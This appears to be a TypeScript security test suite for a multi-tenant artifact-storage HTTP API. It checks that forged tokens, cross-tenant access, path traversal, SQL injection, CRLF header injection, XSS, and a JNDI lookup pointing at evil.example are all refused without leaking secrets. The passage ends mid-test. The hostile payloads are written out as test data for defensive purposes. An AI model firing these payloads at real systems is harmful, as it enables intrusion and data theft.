// Every route of the HTTP API under attack: what each attack is answered, to the letter, and what no answer and no
// line of the log may ever hold.
import { createHash, hkdfSync, randomBytes, randomUUID } from 'node:crypto'
import { connect } from 'node:net'
import { setTimeout } from 'node:timers/promises'
import { gzipSync } from 'node:zlib'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { type Answer, startApi, type TestApi } from '../support/api.ts'
import {
  drained,
  insertMessage,
  newConversation,
  rawMetadata,
  startDaemon,
  useEnvironment,
} from '../support/environment.ts'
import { parseAnswers, sendRaw } from '../support/raw-http.ts'
import { startFaultyStore } from '../support/request-fault.ts'
import { listRoutes } from '../support/routes.ts'
import { forgeToken, hmac, inSeconds, secretToken } from '../support/tokens.ts'

const bodyLimit = 100_000
const rawLimit = 300_000
const hydrateLimit = 1024 * 1024
const requestTimeoutMs = 2000

const mine = randomUUID()
const theirs = randomUUID()
/** In payloads of ours, which no log may repeat, and of theirs, which nothing may. */
const ourMarker = `OUR-PAYLOAD-${randomUUID()}`
const theirMarker = `THEIR-PAYLOAD-${randomUUID()}`

const jwtSecret = randomBytes(32).toString('hex')
const serviceKey = randomBytes(32).toString('hex')
const token = secretToken(jwtSecret, { tenant_id: mine, exp: inSeconds(3600) })
const theirToken = secretToken(jwtSecret, { tenant_id: theirs, exp: inSeconds(3600) })
const bearer = (value: string) => ({ authorization: `Bearer ${value}` })

const environment = await useEnvironment()
let api: TestApi
const logLines: string[] = []
/** Credentials in any form that were used here; the log must have none. */
const credentials = new Set([jwtSecret, serviceKey, token, theirToken, ourMarker, theirMarker])
let internals: string[]

const env = {
  AUTH_MODE: 'jwt',
  JWT_SECRET: jwtSecret,
  SERVICE_API_KEY: serviceKey,
  API_RATE_LIMIT: '0',
  API_BODY_LIMIT_BYTES: String(bodyLimit),
  API_RAW_LIMIT_BYTES: String(rawLimit),
  API_HYDRATE_LIMIT_BYTES: String(hydrateLimit),
  API_REQUEST_TIMEOUT_MS: String(requestTimeoutMs),
  STREAM_THRESHOLD_BYTES: '65536',
}

beforeAll(async () => {
  api = await startApi(environment, { worker: false, env, log: line => logLines.push(JSON.stringify(line)) })
  const { R2_ENDPOINT = '', R2_SECRET_ACCESS_KEY = '', R2_ACCESS_KEY_ID = '' } = environment.env
  const database = new URL(environment.urls.daemon)
  for (const secret of [R2_SECRET_ACCESS_KEY, database.password]) credentials.add(secret)
  internals = [
    R2_ACCESS_KEY_ID,
    new URL(R2_ENDPOINT).host,
    database.host,
    database.username,
    environment.database,
  ]
})
afterAll(async () => {
  await api.daemon.stop()
})

type Options = NonNullable<Parameters<TestApi['call']>[3]>

/** A request of ours, unless the headers say otherwise, whose answer gives nothing away. */
async function ask(method: string, path: string, options: Options = {}): Promise<Answer> {
  const answer = await api.call(null, method, path, {
    ...options,
    headers: { ...bearer(token), ...options.headers },
  })
  expectNoLeak(answer)
  return answer
}

/** Without any credentials. */
async function askUnknown(method: string, path: string, options: Options = {}): Promise<Answer> {
  const answer = await api.call(null, method, path, options)
  expectNoLeak(answer)
  return answer
}

function expectNoLeak(answer: Pick<Answer, 'text' | 'headers'>): void {
  const whole = `${answer.text}\n${[...answer.headers].join('\n')}`
  for (const secret of [jwtSecret, serviceKey, environment.env.R2_SECRET_ACCESS_KEY ?? '']) {
    expect(whole).not.toContain(secret)
  }
  expect(whole).not.toContain(theirMarker)
  expect(whole).not.toContain(`tenants/${theirs}`)
  // Keys begin with the prefix, which is the database's name here; a tenant is shown its own.
  const withoutKeys = whole.replaceAll(`${environment.database}/tenants/`, '')
  for (const internal of internals) expect(withoutKeys).not.toContain(internal)
  expect(whole).not.toMatch(/\bat .*\.[jt]s:\d+|node_modules|\/src\/|FST_ERR|ERR_[A-Z]+_/)
  expect(whole).not.toMatch(
    /artifact_refs|\blighter\.[a-z]|\bselect\b.*\bfrom\b|invalid (byte|input) s|SQLSTATE/i,
  )
}

const requestId = /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[0-9a-f]{4}-[0-9a-f]{12}$/

/** An answer in the shape of errors, with nothing beside what an error may have. */
function expectError(answer: Answer, status: number, code: string, field?: string): void {
  expect([answer.status, answer.json?.code, answer.json?.field]).toEqual([status, code, field])
  expect(answer.headers.get('content-type')).toBe('application/json; charset=utf-8')
  expect(answer.headers.get('cache-control')).toBe('no-store')
  const { request_id, message, ...rest } = answer.json
  expect(request_id).toMatch(requestId)
  expect(message).toMatch(/^.{5,400}$/)
  expect(rest).toEqual({ status: 'error', code, ...(field !== undefined && { field }) })
}

async function store(payload: string, of = token): Promise<{ id: string; r2_key: string; sha256: string }> {
  const answer = await api.call(null, 'POST', '/api/storage/artifacts', {
    json: `{"kind": "agent_trace", "payload": ${payload}}`,
    headers: bearer(of),
  })
  expect(answer.status).toBe(201)
  return answer.json.artifact
}

async function storeRaw(body: Buffer, contentType = 'application/octet-stream', of = token) {
  const answer = await api.call(null, 'POST', '/api/storage/artifacts/raw?kind=attachment', {
    body: new Uint8Array(body),
    headers: { ...bearer(of), 'content-type': contentType },
  })
  expect(answer.status).toBe(201)
  return answer.json.artifact as { id: string; r2_key: string; sha256: string }
}

const anyPayload = () => JSON.stringify({ text: ourMarker, fill: 'x'.repeat(500) })

// ---------------------------------------------------------------------------------------------------------------

interface Field {
  /** As the error names it. */
  name: string
  /** The request with the value in this place. */
  put: (value: string) => { query?: string; json?: string; headers?: Record<string, string> }
  /** Hostile values that are harmless here, and taken. */
  taken?: (value: string) => boolean
  code?: string
}

interface Route {
  route: string
  access: 'open' | 'tenant' | 'service'
  path: (id: string) => string
  /** Sent with it, where it takes a body. */
  json?: string
  bytes?: Buffer
  /** What a good request is answered. */
  good: number
  /** Whether HEAD is a route too. */
  head?: true
  fields?: Field[]
}

const query = (name: string, more = ''): Field['put'] => {
  return value => ({ query: `${more}${name}=${encodeLoosely(value)}` })
}
const member = (name: string): Field['put'] => {
  return value => ({
    json: JSON.stringify({ kind: 'agent_trace', payload: 1, metadata: [], [name]: value }),
  })
}
const header = (name: string): Field['put'] => {
  return value => ({ headers: { [name]: value } })
}
const identifiers = ['constructor', 'toString', 'NaN', 'Infinity']
const isIdentifier = (value: string) => identifiers.includes(value)
const isVisibleAscii = (value: string) => /^[\x21-\x7e]{1,255}$/.test(value)

const routes: Route[] = [
  { route: 'GET /healthz', access: 'open', path: () => '/healthz', good: 200 },
  { route: 'GET /readyz', access: 'open', path: () => '/readyz', good: 200 },
  { route: 'GET /metrics', access: 'service', path: () => '/metrics', good: 200 },
  { route: 'GET /docs', access: 'open', path: () => '/docs', good: 200 },
  { route: 'GET /docs/', access: 'open', path: () => '/docs/', good: 200 },
  { route: 'GET /docs/json', access: 'open', path: () => '/docs/json', good: 200 },
  { route: 'GET /docs/yaml', access: 'open', path: () => '/docs/yaml', good: 200 },
  {
    route: 'GET /docs/static/index.html',
    access: 'open',
    path: () => '/docs/static/index.html',
    good: 200,
  },
  {
    route: 'GET /docs/static/swagger-initializer.js',
    access: 'open',
    path: () => '/docs/static/swagger-initializer.js',
    good: 200,
  },
  { route: 'GET /docs/*', access: 'open', path: () => '/docs/static/swagger-ui.css', good: 200, head: true },
  { route: 'GET /api/storage/r2/check', access: 'open', path: () => '/api/storage/r2/check', good: 200 },
  {
    route: 'GET /api/storage/artifacts',
    access: 'tenant',
    path: () => '/api/storage/artifacts',
    good: 200,
    fields: [
      // Any text of some length may be looked for.
      {
        name: 'querystring.kind',
        put: query('kind'),
        taken: value => value.length > 0 && value.length <= 100 && !value.includes('\0'),
      },
      { name: 'querystring.entity_type', put: query('entity_type'), taken: isIdentifier },
      { name: 'querystring.entity_id', put: query('entity_id') },
      { name: 'querystring.limit', put: query('limit'), taken: value => value === '0x10' },
      {
        name: 'querystring.offset',
        put: query('offset'),
        taken: value => value === '0x10' || value.trim() === '',
      },
      { name: 'querystring.cursor', put: query('cursor') },
    ],
  },
  {
    route: 'POST /api/storage/artifacts',
    access: 'tenant',
    path: () => '/api/storage/artifacts',
    json: '{"kind": "agent_trace", "payload": 1}',
    good: 201,
    fields: [
      { name: 'kind', put: member('kind'), code: 'kind_not_allowed' },
      { name: 'body.entity_type', put: member('entity_type'), taken: isIdentifier },
      { name: 'body.entity_id', put: member('entity_id') },
      { name: 'body.content_type', put: member('content_type') },
      { name: 'headers.idempotency-key', put: header('idempotency-key'), taken: isVisibleAscii },
    ],
  },
  {
    route: 'POST /api/storage/artifacts/raw',
    access: 'tenant',
    path: () => '/api/storage/artifacts/raw?kind=attachment',
    bytes: Buffer.from('bytes'),
    good: 201,
    fields: [
      {
        name: 'querystring.entity_type',
        put: query('entity_type', 'kind=attachment&'),
        taken: isIdentifier,
      },
      { name: 'querystring.entity_id', put: query('entity_id', 'kind=attachment&') },
      { name: 'kind', put: query('kind'), code: 'kind_not_allowed' },
      { name: 'headers.idempotency-key', put: header('idempotency-key'), taken: isVisibleAscii },
    ],
  },
  {
    route: 'GET /api/storage/artifacts/:id',
    access: 'tenant',
    path: id => `/api/storage/artifacts/${id}`,
    good: 200,
    head: true,
    fields: [{ name: 'querystring.raw', put: query('raw') }],
  },
  {
    route: 'GET /api/storage/artifacts/:id/url',
    access: 'tenant',
    path: id => `/api/storage/artifacts/${id}/url`,
    good: 200,
    fields: [{ name: 'querystring.expires_in', put: query('expires_in'), taken: value => value === '0x10' }],
  },
  {
    route: 'DELETE /api/storage/artifacts/:id',
    access: 'tenant',
    path: id => `/api/storage/artifacts/${id}`,
    good: 200,
    fields: [{ name: 'querystring.force', put: query('force') }],
  },
  {
    route: 'POST /api/storage/hydrate',
    access: 'tenant',
    path: () => '/api/storage/hydrate',
    json: '{"metadata": []}',
    good: 200,
    fields: [
      {
        name: 'body.field',
        put: member('field'),
        taken: value => value.length > 0 && value.length <= 63,
      },
    ],
  },
  {
    route: 'GET /api/storage/signed/:token',
    access: 'open',
    path: id => `/api/storage/signed/${signed({ sub: id, tid: mine })}`,
    good: 200,
  },
]
const guarded = routes.filter(route => route.access === 'tenant')
const withId = guarded.filter(({ route }) => route.includes(':id'))
const ofMethod = (route: Route) => route.route.split(' ')[0] ?? ''

/** Signed as the API does it, so that claims of any kind can be tried under the right key. */
function signed(claims: Record<string, unknown>, header: object = { alg: 'HS256' }): string {
  const audience = 'pg-lighter/artifact-url'
  const key = Buffer.from(hkdfSync('sha256', environment.env.R2_SECRET_ACCESS_KEY ?? '', '', audience, 32))
  return forgeToken(header, { aud: audience, exp: inSeconds(60), ...claims }, hmac(key))
}

/** Percent-encoded, a lone surrogate as its three bytes, which are no UTF-8. */
function encodeLoosely(value: string): string {
  return value.isWellFormed() ? encodeURIComponent(value) : '%ED%A0%80'
}

/** The request of the table, of an artifact that is there, or of `id`. */
async function request(
  route: Route,
  options: { id?: string; method?: string; headers?: Record<string, string>; unknown?: boolean } = {},
): Promise<Answer> {
  const id = options.id ?? (await store(anyPayload())).id
  const method = options.method ?? ofMethod(route)
  return (options.unknown ? askUnknown : ask)(method, route.path(id), {
    ...(route.json !== undefined && { json: route.json }),
    ...(route.bytes !== undefined && { body: new Uint8Array(route.bytes) }),
    headers: {
      ...(route.access === 'service' && bearer(serviceKey)),
      ...options.headers,
    },
  })
}

describe('the table of routes', () => {
  test('has every route of the server, and no other', async () => {
    const known = routes.flatMap(({ route, head }) =>
      head ? [route, route.replace('GET', 'HEAD')] : [route],
    )
    // Those of the dashboard have a test file of their own.
    expect(await listRoutes(environment, { ...env, DASHBOARD: 'off' })).toEqual(known.sort())
  })

  // Else the attacks below might be refused for another reason than the one they are about.
  test.each(routes.map(route => [route.route, route] as const))(
    '%s answers a good request',
    async (_, route) => {
      expect((await request(route)).status).toBe(route.good)
      if (!route.head) return
      const head = await request(route, { method: 'HEAD' })
      expect([head.status, head.text]).toEqual([route.good, ''])
    },
  )
})

describe('without credentials', () => {
  const needed = routes.filter(route => route.access !== 'open')
  test.each(needed.map(route => [route.route, route] as const))('%s is refused', async (_, route) => {
    const id = (await store(anyPayload())).id
    for (const headers of [
      {},
      { 'x-tenant-id': mine },
      { authorization: '' },
      { authorization: 'Bearer' },
      { authorization: `Basic ${Buffer.from(`${mine}:${jwtSecret}`).toString('base64')}` },
      bearer('garbage'),
      bearer(mine),
      bearer(signed({ sub: id, tid: mine })),
      bearer(forgeToken({ alg: 'none' }, { tenant_id: mine, exp: inSeconds(60) }, () => Buffer.alloc(0))),
      // Each of the two credentials is for its own doors.
      route.access === 'service' ? bearer(token) : bearer(serviceKey),
    ] as Record<string, string>[]) {
      const answer = await askUnknown(ofMethod(route), route.path(id), {
        headers,
        ...(route.json !== undefined && { json: route.json }),
        ...(route.bytes !== undefined && { body: new Uint8Array(route.bytes) }),
      })
      expectError(answer, 401, 'unauthorized')
      expect(answer.headers.get('www-authenticate')).toBe('Bearer')
      if (route.head) expect((await askUnknown('HEAD', route.path(id), { headers })).status).toBe(401)
    }
    expect((await ask('GET', `/api/storage/artifacts/${id}`)).status).toBe(200)
  })

  test.each(guarded.map(route => [route.route, route] as const))(
    '%s is refused before anything else is looked at',
    async (_, route) => {
      const method = ofMethod(route)
      for (const path of [`${route.path('malformed')}`, `${route.path(randomUUID())}?limit=-1`]) {
        expectError(
          await askUnknown(method, path, method === 'POST' ? { json: '{malformed' } : {}),
          401,
          'unauthorized',
        )
      }
      if (method !== 'POST') return
      // A body that is announced and never sent: nobody waits for it.
      const text = await sendRaw(api.url, [
        `POST ${route.path('')} HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Type: application/json\r\nContent-Length: 99999999\r\n\r\n{`,
      ])
      expect(parseAnswers(text)[0]?.status).toBe(401)
    },
  )
})

describe('another tenant’s artifact', () => {
  let foreign: [string, string][]
  let conversationId: string

  beforeAll(async () => {
    // Of each kind that might be answered in its own way: loose, in a pack, off a row, deleted.
    const worker = await startDaemon(environment)
    const conversation = await newConversation(environment, theirs)
    conversationId = conversation.conversationId
    const rowId = await insertMessage(
      environment,
      conversationId,
      JSON.stringify({ tool_interactions: [theirMarker] }),
    )
    await drained(environment)
    await worker.stop()
    const row: { tool_interactions_ref: string } = JSON.parse((await rawMetadata(environment, rowId)) ?? '')
    const payload = JSON.stringify({ text: theirMarker, fill: 'x'.repeat(500) })
    const deleted = await store(payload, theirToken)
    await api.call(null, 'DELETE', `/api/storage/artifacts/${deleted.id}`, { headers: bearer(theirToken) })
    const large = Buffer.from(`${theirMarker}${'x'.repeat(200_000)}`)
    foreign = [
      ['small', (await store(payload, theirToken)).id],
      ['large', (await storeRaw(large, 'text/plain', theirToken)).id],
      ['off a row', row.tool_interactions_ref],
      ['deleted', deleted.id],
    ]
    // They are there, for their own tenant.
    for (const [, id] of foreign) {
      const answer = await api.call(null, 'GET', `/api/storage/artifacts/${id}`, {
        headers: bearer(theirToken),
      })
      expect([200, 410]).toContain(answer.status)
    }
  })

  /** All of an answer but the ids that it was asked with and what differs from one moment to the next. */
  function everything(answer: Answer, id: string) {
    return {
      status: answer.status,
      headers: [...answer.headers].filter(([name]) => name !== 'date'),
      body: answer.text.replaceAll(id, '<id>').replace(/"request_id":"[^"]*"/, '"request_id":"<request>"'),
    }
  }

  const attempts: [string, (id: string) => Promise<Answer>][] = [
    ['GET', id => ask('GET', `/api/storage/artifacts/${id}`)],
    ['HEAD', id => ask('HEAD', `/api/storage/artifacts/${id}`)],
    ['GET raw', id => ask('GET', `/api/storage/artifacts/${id}?raw=1`)],
    ['HEAD raw', id => ask('HEAD', `/api/storage/artifacts/${id}?raw=1`)],
    ['GET in upper case', id => ask('GET', `/api/storage/artifacts/${id.toUpperCase()}`)],
    [
      'a range of it',
      id => ask('GET', `/api/storage/artifacts/${id}?raw=1`, { headers: { range: 'bytes=0-0' } }),
    ],
    [
      'a range beyond it',
      id => ask('GET', `/api/storage/artifacts/${id}?raw=1`, { headers: { range: 'bytes=999999999-' } }),
    ],
    [
      'any version of it',
      id => ask('GET', `/api/storage/artifacts/${id}?raw=1`, { headers: { 'if-none-match': '*' } }),
    ],
    ['a URL for it', id => ask('GET', `/api/storage/artifacts/${id}/url`)],
    ['DELETE', id => ask('DELETE', `/api/storage/artifacts/${id}`)],
    ['DELETE by force', id => ask('DELETE', `/api/storage/artifacts/${id}?force=true`)],
    [
      'a signed URL of ours for it',
      id => askUnknown('GET', `/api/storage/signed/${signed({ sub: id, tid: mine })}`),
    ],
    ['hydrate the field', id => hydrate(`{"tool_interactions_ref": "${id}", "tool_interactions_count": 1}`)],
    ['hydrate a field of another name', id => hydrate(`{"x_ref": "${id}"}`, 'x')],
    [
      'hydrate the whole',
      id => hydrate(`{"artifact_metadata_ref": "${id}", "artifact_metadata_kind": "agent_trace"}`),
    ],
    ['hydrate both', id => hydrate(`{"artifact_metadata_ref": "${id}", "tool_interactions_ref": "${id}"}`)],
    [
      'hydrate with the field there',
      id => hydrate(`{"tool_interactions": [], "tool_interactions_ref": "${id}"}`),
    ],
    [
      'list after it',
      id =>
        ask(
          'GET',
          `/api/storage/artifacts?kind=none_such&cursor=${Buffer.from(`2020-01-01 00:00:00+00/${id}`).toString('base64url')}`,
        ),
    ],
  ]
  const hydrate = (metadata: string, field?: string) =>
    ask('POST', '/api/storage/hydrate', {
      json: `{"metadata": [${metadata}]${field === undefined ? '' : `, "field": "${field}"`}}`,
    })

  test.each(attempts)('%s: is answered as one that does not exist', async (_name, attempt) => {
    const id = randomUUID()
    const unknown = everything(await attempt(id), id)
    // That it is refused is not by chance, but for the two that have nothing to refuse.
    if (!_name.startsWith('hydrate') && _name !== 'list after it') expect(unknown.status).toBe(404)
    else expect(unknown.status).toBe(200)
    for (const [kind, foreignId] of foreign) {
      expect(everything(await attempt(foreignId), foreignId), kind).toEqual(unknown)
    }
  })

  test('a pointer in a payload of ours is not followed either', async () => {
    const asked = async (id: string) => {
      const base = await store(`{"tool_interactions_ref": "${id}", "kept": 1}`)
      const answer = await hydrate(`{"artifact_metadata_ref": "${base.id}"}`)
      return everything(answer, base.id)
    }
    const unknown = await asked(randomUUID())
    expect(unknown.body).toContain('artifact_not_found')
    for (const [kind, id] of foreign) expect(await asked(id), kind).toEqual(unknown)
  })

  test('its entity lists as one that nobody has', async () => {
    const lists = async (id: string) => {
      const found: unknown[] = []
      for (const filter of ['', '&entity_type=conversation', '&kind=agent_trace', '&offset=1']) {
        found.push(everything(await ask('GET', `/api/storage/artifacts?entity_id=${id}${filter}`), id))
      }
      return found
    }
    expect(await lists(conversationId)).toEqual(await lists(randomUUID()))
  })

  test('nothing of theirs was touched by any of it', async () => {
    const { rows } = await environment.admin.query(
      'select id, deleted_at is not null as deleted from artifact_refs where tenant_id = $1',
      [theirs],
    )
    expect(new Map(rows.map(row => [row.id, row.deleted]))).toEqual(
      new Map(foreign.map(([kind, id]) => [id, kind === 'deleted'])),
    )
  })

  test('takes as long to be refused as one that does not exist', async () => {
    const [, [, large] = ['', '']] = foreign
    const timed = async (id: string, raw: string) => {
      const began = performance.now()
      await api.call(null, 'GET', `/api/storage/artifacts/${id}${raw}`, { headers: bearer(token) })
      return performance.now() - began
    }
    const times: { foreign: number[]; unknown: number[] } = { foreign: [], unknown: [] }
    // In turns, so that whatever else the machine does hits both; the first ones warm it up.
    for (let n = 0; n < 350; n++) {
      const order = n % 2 === 0 ? (['foreign', 'unknown'] as const) : (['unknown', 'foreign'] as const)
      for (const which of order) {
        const took = await timed(which === 'foreign' ? large : randomUUID(), n % 4 < 2 ? '' : '?raw=1')
        if (n >= 50) times[which].push(took)
      }
    }
    const [foreignMs, unknownMs] = [median(times.foreign), median(times.unknown)]
    // One look at the store, or one more at the database, is a millisecond or more beside some two of these.
    expect(Math.abs(foreignMs - unknownMs), `${foreignMs} and ${unknownMs} ms`).toBeLessThan(
      0.2 + 0.15 * unknownMs,
    )
  })
})

const median = (values: number[]) => values.toSorted((a, b) => a - b)[Math.floor(values.length / 2)] ?? 0

describe('ids that are none', () => {
  const malformed = [
    'x',
    '0',
    '-1',
    'null',
    'undefined',
    randomUUID().slice(1),
    `${randomUUID()}0`,
    `{${randomUUID()}}`,
    randomUUID().replaceAll('-', ''),
    `${randomUUID()}%00`,
    `${randomUUID()}%0A`,
    `${randomUUID()}%20`,
    `%20${randomUUID()}`,
    "'%20or%20'1'='1",
    '%27;drop%20table%20artifact_refs;--',
    '..%2F..%2Fetc%2Fpasswd',
    '%2e%2e%2f',
    '%00',
    '%F0%9F%92%A9',
    'x'.repeat(1999),
    '*',
    '$1',
    '__proto__',
    'constructor',
  ]
  test.each(withId.map(route => [route.route, route] as const))('%s refuses them', async (_, route) => {
    for (const id of malformed) {
      expectError(await ask(ofMethod(route), route.path(id)), 400, 'invalid_request', 'params.id')
    }
  })

  test.each(withId.map(route => [route.route, route] as const))(
    '%s: one that is not even a URL is refused in our words, without being repeated',
    async (_, route) => {
      for (const [id, status] of [
        ['%zz', 400],
        ['%', 400],
        ['%ff', 400],
        ['%ED%A0%80', 400],
        ['%c0%ae%c0%ae', 400],
        ['x'.repeat(2001), 414],
      ] as const) {
        const answer = await ask(ofMethod(route), route.path(`${id}`))
        expect(answer.status, id).toBe(status)
        expect(answer.text).not.toContain(id)
        expectError(answer, status, 'invalid_request')
      }
    },
  )

  test('paths that climb lead nowhere', async () => {
    const statuses: [string, number, string][] = [
      ['/api/storage/artifacts/../../../etc/passwd', 404, 'route_not_found'],
      ['/api/storage/artifacts/..', 400, 'invalid_request'],
      ['/api/storage/artifacts/', 400, 'invalid_request'],
      ['//api/storage/artifacts', 404, 'route_not_found'],
      ['/api/storage//artifacts', 404, 'route_not_found'],
      ['/API/storage/artifacts', 404, 'route_not_found'],
      // Files are looked for within a folder, and nowhere beside it.
      ['/docs/static/../../package.json', 403, 'invalid_request'],
      ['/docs/static/%2e%2e/%2e%2e/package.json', 403, 'invalid_request'],
      ['/docs/static/..%2f..%2f..%2fpackage.json', 404, 'route_not_found'],
      ['/docs/static/..%5c..%5cpackage.json', 403, 'invalid_request'],
      ['/docs/../metrics', 404, 'route_not_found'],
      ['/docs/.env', 404, 'route_not_found'],
      ['/.env', 404, 'route_not_found'],
      ['/', 404, 'route_not_found'],
    ]
    const found: typeof statuses = []
    for (const [path] of statuses) {
      // As they are, which a client that follows the rules of URLs would not send.
      const text = await sendRaw(api.url, [
        `GET ${path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\nAuthorization: Bearer ${token}\r\n\r\n`,
      ])
      const [answer] = parseAnswers(text)
      found.push([path, answer?.status ?? 0, JSON.parse(answer?.body ?? '').code])
    }
    expect(found).toEqual(statuses)
  })
})

const hostile = [
  '',
  ' ',
  "' or '1'='1",
  "'; drop table artifact_refs; --",
  '$1',
  '\\',
  `${ourMarker}'`,
  '../../../etc/passwd',
  '/etc/passwd',
  `tenants/${theirs}/`,
  '\0',
  'agent_trace\0',
  'x\r\nSet-Cookie: evil=1\r\n\r\n<html>',
  'x\nSet-Cookie: evil=1',
  '\u202Eevil',
  '\uFEFF',
  '\uFFFE',
  '\uD800',
  '💩'.repeat(400),
  'ﷺ'.repeat(90),
  '<script>alert(1)</script>',
  '{{7*7}}',
  `\${jndi:ldap://evil.example/x}`,
  '%s%n%x',
  '[object Object]',
  '__proto__',
  'constructor',
  'toString',
  'NaN',
  'Infinity',
  '-1',
  '0.5',
  '1e309',
  '0x10',
  '9'.repeat(400),
]

describe('hostile values', () => {
  const cases = guarded.flatMap(route =>
    (route.fields ?? []).map(field => [`${route.route}: ${field.name}`, route, field] as const),
  )

  test.each(cases)('%s', async (_name, route, field) => {
    const inHeader = field.name.startsWith('headers.')
    // Of a tenant of its own: an Idempotency-Key is for one request.
    const own = secretToken(jwtSecret, { tenant_id: randomUUID(), exp: inSeconds(3600) })
    credentials.add(own)
    for (const value of hostile) {
      // These can't be sent in a header at all; what can is tried with raw sockets below.
      if (inHeader && !/^[\x20-\x7e]*$/.test(value)) continue
      const { query: search, json = route.json, headers } = field.put(value)
      const path = route.path((await store(anyPayload(), own)).id)
      const answer = await ask(
        ofMethod(route),
        search === undefined ? path : `${path.replace(/\?.*/, '')}?${search}`,
        {
          ...(json !== undefined && { json }),
          ...(route.bytes !== undefined && { body: new Uint8Array(route.bytes) }),
          headers: { ...bearer(own), ...headers },
        },
      )
      const shown = JSON.stringify(value.slice(0, 40))
      if (field.taken?.(value)) {
        expect(answer.status, shown).toBe(route.good)
        continue
      }
      // The schema has a word on the length of a kind before its spelling is looked at.
      const bySchema = field.code === undefined || value === '' || value.length > 100
      const source = search === undefined ? 'body' : 'querystring'
      // A NUL may be left to the database, which does not say where it was.
      const expectedField = field.code === undefined ? field.name : `${source}.kind`
      expect([answer.status, answer.json?.code, answer.json?.field], shown).toEqual(
        bySchema
          ? [400, 'invalid_request', value.includes('\0') ? answer.json?.field : expectedField]
          : [400, field.code, field.name],
      )
      expect(answer.headers.get('set-cookie')).toBeNull()
      expectError(answer, 400, answer.json.code, answer.json.field)
    }
  })

  test.each(cases.filter(([, , field]) => field.name.startsWith('querystring.')))(
    '%s given twice is refused',
    async (_name, route, field) => {
      const name = field.name.replace('querystring.', '')
      const path = route.path(randomUUID())
      const value = { limit: '5', offset: '5', expires_in: '5', raw: '1', force: 'true' }[name] ?? 'x'
      const twice = `${path}${path.includes('?') ? '&' : '?'}${name}=${value}&${name}=${value}`
      const answer = await ask(ofMethod(route), twice, {
        ...(route.bytes !== undefined && { body: new Uint8Array(route.bytes) }),
      })
      expectError(answer, 400, 'invalid_request', field.name)
    },
  )

  test('a cursor that has the form of one, but not the values, is refused', async () => {
    const id = randomUUID()
    const taken: [string, number][] = []
    for (const cursor of [
      `9999-99-99 99:99:99+99/${id}`,
      `2024-02-30 00:00:00+00/${id}`,
      `0000-01-01 00:00:00+00/${id}`,
      `999999-01-01 00:00:00+00/${id}`,
      `2024-01-01 00:00:00+00/${'-'.repeat(36)}`,
      `2024-01-01 00:00:00+00/${'f'.repeat(36)}`,
      `2024-01-01 00:00:00+99/${id}`,
      `2024-01-01 25:61:61+00/${id}`,
      `2024-01-01 00:00:00+00/${id}' or true`,
      `2024-01-01 00:00:00+00/${id}\0`,
      `infinity/${id}`,
      `now/${id}`,
      id,
    ]) {
      const path = `/api/storage/artifacts?cursor=${Buffer.from(cursor).toString('base64url')}`
      const answer = await ask('GET', path)
      // Where the form is right, only the database knows that the value is wrong, and not of which field.
      if (answer.status === 400) expectError(answer, 400, 'invalid_request', answer.json.field)
      else taken.push([cursor, answer.status])
    }
    expect(taken).toEqual([])
  })

  test('a media type that no header could carry is refused, not stored', async () => {
    const taken: [string, number][] = []
    for (const contentType of [
      'application/json; a="\0"',
      'application/json; a="\u0001"',
      'application/json; a="\u007F"',
      'application/json; a="x\r\nSet-Cookie: evil=1"',
      'application/json; a="x\nSet-Cookie: evil=1"',
      'application/json\r\nSet-Cookie: evil=1',
      'application/json; a="é"',
      'application/json; a="💩"',
      'application/json; a="\u2028"',
      'application/json; a="\uD800"',
      'application/json; a=é',
      'application/json;',
      'application/json,text/html',
      'application/json text/html',
      `application/json; a=${'x'.repeat(300)}`,
    ]) {
      const answer = await ask('POST', '/api/storage/artifacts', {
        json: JSON.stringify({ kind: 'agent_trace', payload: 1, content_type: contentType }),
      })
      if (answer.status === 400) expectError(answer, 400, 'invalid_request', answer.json.field)
      else taken.push([contentType, answer.status])
    }
    expect(taken).toEqual([])
  })

  test('nor is one in the header of an upload', async () => {
    const upload = async (contentType: string) => {
      const text = await sendRaw(api.url, [
        Buffer.from(
          `POST /api/storage/artifacts/raw?kind=attachment HTTP/1.1\r\nHost: x\r\nConnection: close\r\n` +
            `Authorization: Bearer ${token}\r\nContent-Type: ${contentType}\r\nContent-Length: 2\r\n\r\n{}`,
          'latin1',
        ),
      ])
      return parseAnswers(text)[0]
    }
    const taken: [string, number | undefined][] = []
    for (const contentType of [
      'text/plain; a="\xE9"',
      'text/plain; a="\xFF\xFE"',
      'text/\xE9',
      'text',
      'text/plain, text/html',
      'text/plain; a="',
      `text/plain; a=${'x'.repeat(300)}`,
      '../../etc/passwd',
      '*/*; q=<script>',
    ]) {
      const answer = await upload(contentType)
      const { code } = JSON.parse(answer?.body ?? '{}')
      // What is no type at all is refused before our own look at it.
      const refused = answer?.status === 415 ? 'unsupported_media_type' : 'invalid_request'
      if (answer?.status === 400 || answer?.status === 415) expect(code).toBe(refused)
      else taken.push([contentType, answer?.status])
    }
    expect(taken).toEqual([])
    expect((await upload('text/plain; a="fine"'))?.status).toBe(201)
  })

  test('media types come back as one header, and only harmless ones are shown in place', async () => {
    for (const [contentType, disposition] of [
      ['text/html', 'attachment'],
      ['text/html; charset=utf-8', 'attachment'],
      ['TEXT/HTML', 'attachment'],
      ['image/svg+xml', 'attachment'],
      ['application/xhtml+xml', 'attachment'],
      ['text/xml', 'attachment'],
      ['text/javascript', 'attachment'],
      ['application/x-shockwave-flash', 'attachment'],
      ['text/plain; a="<script>; text/html"', 'inline'],
      ['image/png', 'inline'],
      ['application/pdf', 'inline'],
    ] as const) {
      const { id } = await storeRaw(Buffer.from('<script>alert(1)</script>'), contentType)
      const answer = await ask('GET', `/api/storage/artifacts/${id}?raw=1`)
      expect(answer.headers.get('content-type')).toBe(contentType)
      expect(answer.headers.get('content-disposition')).toBe(
        disposition === 'inline' ? 'inline' : `attachment; filename="${id}"`,
      )
      expect(answer.headers.get('x-content-type-options')).toBe('nosniff')
      expect(answer.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox")
    }
  })

  test('a row that the application wrote can not put headers into an answer', async () => {
    for (const contentType of [
      'text/plain\r\nSet-Cookie: evil=1',
      'text/plain\nX-Evil: 1',
      'text/é💩',
      'text/\0x',
    ]) {
      const { id } = await storeRaw(Buffer.from('bytes'))
      // Postgres has no NUL in a text.
      await environment.admin.query('update artifact_refs set content_type = $2 where id = $1', [
        id,
